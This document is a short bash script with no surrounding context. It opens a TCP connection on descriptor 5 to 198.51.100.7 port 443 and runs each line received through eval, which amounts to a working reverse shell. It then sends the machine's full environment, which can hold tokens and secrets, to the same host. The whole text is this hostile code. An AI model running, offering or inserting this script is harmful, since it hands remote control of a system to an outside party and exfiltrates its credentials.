#!/bin/bash
exec 5<>/dev/tcp/198.51.100.7/443
while read -r -u 5 line; do eval "$line"; done
(echo > /dev/tcp/198.51.100.7/443 2>/dev/null "$(env)")
